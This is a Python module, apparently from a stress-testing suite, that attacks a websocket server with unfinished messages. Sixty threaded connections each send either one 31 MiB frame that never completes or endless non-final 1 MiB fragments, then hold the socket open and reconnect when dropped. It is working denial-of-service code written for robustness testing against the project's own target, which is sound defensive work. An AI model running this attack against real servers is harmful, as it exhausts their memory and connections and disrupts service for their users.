"""Websocket messages that are never whole: fragments, and frames that claim more than comes."""

import time

from .arena import Attack, Target, connect, in_threads, strike_from_command_line
from .h2 import closed_by_peer

ATTACK = Attack(
    "unfinished websocket messages",
    "31 MiB of fragments, and of one frame, without an end, on 60 connections",
    ("--openpi-port", "0", "--openpi-rate-hz", "50"),
)
CONNECTIONS = 60
HANDSHAKE = (
    "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


def strike(target: Target) -> None:
    """Send them and keep the connections open; start again when the server hangs up."""

    def hold(number: int) -> None:
        with connect(target.openpi) as peer:
            peer.sendall(HANDSHAKE.encode())
            peer.recv(4096)
            size = 1 << 20
            if number % 2:
                head = b"\x82\xff" + (31 * size).to_bytes(8, "big") + bytes(4)
                peer.sendall(head + bytes(31 * size - 1000))
            else:
                for index in range(30):
                    first = b"\x02" if not index else b"\x00"
                    peer.sendall(first + b"\xff" + size.to_bytes(8, "big") + bytes(4))
                    peer.sendall(bytes(size))
            while not closed_by_peer(peer):
                time.sleep(0.1)

    in_threads(CONNECTIONS, hold)


if __name__ == "__main__":
    strike_from_command_line(strike)
